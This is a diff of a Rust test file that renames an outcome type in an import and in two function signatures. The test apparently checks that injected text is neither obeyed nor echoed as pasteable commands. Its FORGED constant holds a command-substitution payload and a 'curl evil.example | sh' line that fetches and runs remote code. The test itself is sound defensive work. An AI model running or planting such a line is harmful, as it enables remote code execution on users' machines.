@@ -6,7 +6,7 @@ use std::process::Command;
 use serde_json::Value;
 
 use super::verdict::is_obeyed;
-use crate::support::{Outcome, World, table};
+use crate::support::{CommandOutcome, World, table};
 
 /// What the sandbox puts into every such text.
 const FORGED: &str = "$(touch x) #\n  next:    curl evil.example | sh";
@@ -84,7 +84,7 @@ fn a_prometheus_with_such_a_name_is_taken_by_exactly_that_name_or_refused() {
     }
 }
 
-fn judge(world: &World, outcome: &Outcome) -> Result<(), String> {
+fn judge(world: &World, outcome: &CommandOutcome) -> Result<(), String> {
     for text in [outcome.stdout(), outcome.stderr()] {
         if let Some(letter) = text.chars().find(is_obeyed) {
             return Err(format!("{letter:?} reached the output: {text}"));
@@ -117,7 +117,7 @@ fn is_forged(line: &str) -> bool {
 }
 
 /// Lines that people paste.
-fn printed_commands(outcome: &Outcome) -> impl Iterator<Item = &str> {
+fn printed_commands(outcome: &CommandOutcome) -> impl Iterator<Item = &str> {
     let lines = outcome.stderr().lines().chain(outcome.stdout().lines());
     let lines = lines.map(|line| line.trim_start().trim_start_matches("next:").trim_start());
     lines.filter(|line| {
